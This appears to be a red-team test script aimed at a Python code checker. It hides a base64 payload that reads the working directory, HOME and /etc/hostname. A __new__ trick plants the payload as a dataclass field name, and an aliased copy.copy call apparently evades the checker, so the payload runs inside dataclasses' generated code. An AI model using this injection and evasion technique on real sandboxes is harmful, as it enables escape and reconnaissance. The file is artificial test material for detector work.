# family: red team, round 56b (copy.copy held in a module-level alias: odd_new_copies only looks at imported names)
import base64
import copy
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


box = []


dup = copy.copy


class Sneaky:
    __slots__ = ("name",)

    def __new__(cls):
        if box:
            return box[0]
        return object.__new__(cls)

    def __init__(self):
        self.name = base64.b64decode(CODE).decode()


def main():
    s = Sneaky()
    box.append(dataclasses.fields(A)[0])
    dup(s)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
